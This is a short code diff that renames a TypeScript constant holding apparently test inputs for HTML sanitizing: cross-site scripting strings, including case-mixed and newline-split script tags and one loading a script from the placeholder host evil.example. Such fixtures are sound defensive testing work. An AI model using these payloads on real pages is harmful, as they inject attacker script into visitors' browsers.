@@ -1,5 +1,5 @@
 /** Markdown and HTML that tries to do something in the page where it is shown. */
-export const README_ATTACKS: readonly string[] = [
+export const readmeAttacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
   '<script\n>alert(1)</script\n>',
